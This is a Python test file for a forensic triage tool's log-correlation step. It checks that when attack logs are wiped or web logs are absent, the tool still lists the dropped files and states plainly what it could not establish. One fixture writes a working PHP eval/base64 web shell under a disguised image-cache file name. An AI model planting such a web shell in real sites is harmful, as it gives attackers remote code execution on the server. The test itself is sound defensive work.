"""Correlation with evidence missing: the attack log wiped, no web logs at all; it says what it could not establish."""

from __future__ import annotations

from pathlib import Path

from breachkit import triage
from breachkit.correlate import as_findings, correlate
from tests.correlate.conftest import Triaged
from tests.serverfs import clean_server, write


def test_wiped_log_still_names_the_dropped_files(wiped_case: Triaged) -> None:
    truth = wiped_case.truth
    result = correlate(wiped_case.case)
    files = {link.file.path: link for link in result.links}
    dropped = [truth.entry_point.created, "/tmp/.X11-cache/kworkerd", "/tmp/.X11-cache/run.sh"]
    for path in dropped:
        assert path in files, path
        assert files[path].creator is None
        assert any(gap.startswith(f"could not establish the request that created {path}") for gap in result.gaps), path
    webshell_gap = next(g for g in result.gaps if truth.entry_point.created in g)
    assert "missing, rotated away or was wiped" in webshell_gap or "after the last request" in webshell_gap
    assert not result.entry_points
    assert any("could not establish the entry point" in gap for gap in result.gaps)
    # Nothing innocent was pulled in to fill the hole.
    noise = {n.path for n in truth.benign_noise}
    assert not noise & {link.file.path for link in result.links if link.creator is not None}
    assert truth.attacker_ips[0] not in result.attacker_addresses
    findings = {f.check: f for f in as_findings(result)}
    assert "correlate.entry-point" not in findings
    gaps = findings["correlate.gaps"]
    assert any(truth.entry_point.created in (e.note or "") for e in gaps.evidence)


def test_no_web_logs_at_all(tmp_path: Path) -> None:
    root = tmp_path / "host"
    clean_server(root)
    write(root, "/var/www/shop/images/thumb_cache.php", "<?php @eval(base64_decode($_POST['x'])); ?>")
    write(root, "/tmp/.X11-cache/kworkerd", b"\x7fELF" + b"flood" * 20, 0o755)
    triage.run(root=str(root), case_dir=tmp_path / "case")
    result = correlate(tmp_path / "case")
    paths = {link.file.path for link in result.links}
    assert {"/var/www/shop/images/thumb_cache.php", "/tmp/.X11-cache/kworkerd", "/tmp/.X11-cache"} <= paths
    assert any("no web access log requests" in gap for gap in result.gaps)
    assert not result.entry_points and not result.addresses
    assert all(link.creator is None for link in result.links)
    # The story still tells the files, with what is missing.
    assert any("no request could be tied" in line.text for line in result.story)
